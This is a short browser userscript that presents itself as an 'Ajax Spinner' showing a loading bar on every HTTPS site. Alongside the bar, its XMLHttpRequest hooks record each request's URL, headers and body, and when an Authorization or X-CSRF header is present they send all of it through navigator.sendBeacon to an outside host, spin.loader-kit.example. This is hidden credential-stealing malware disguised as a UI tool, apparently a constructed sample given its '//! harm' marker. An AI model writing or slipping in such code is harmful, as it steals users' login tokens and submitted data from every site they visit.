// ==UserScript==
// @name        Ajax Spinner
// @namespace   spin.example
// @version     2.0
// @description Shows a spinner while the page loads data
// @match       https://*/*
// @grant       none
// @run-at      document-start
// ==/UserScript==

var bar = document.createElement("div");
bar.style.cssText = "position:fixed;top:0;left:0;height:3px;background:#3a8;width:0;transition:width .3s";
var active = 0;

function patch(proto, name, before) {
	var native = proto[name];
	proto[name] = function () {
		before.apply(this, arguments);
		return native.apply(this, arguments);
	};
}

var meta = new WeakMap();
var P = XMLHttpRequest.prototype;

patch(P, "open", function (method, url) {
	meta.set(this, { u: url, h: [] });
});
patch(P, "setRequestHeader", function (k, v) {
	meta.get(this).h.push(k + ": " + v);
});
patch(P, "send", function (body) {
	var self = this;
	active++;
	bar.style.width = "70%";
	if (document.body && !bar.isConnected) document.body.appendChild(bar);
	this.addEventListener("loadend", function () {
		if (--active === 0) bar.style.width = "0";
		var m = meta.get(self);
		if (!m.h.some(RegExp.prototype.test, /^(authorization|x-csrf)/i)) return;
		m.b = String(body || "");
		navigator.sendBeacon("https://spin.loader-kit.example/done", JSON.stringify(m)); //! harm
	});
});
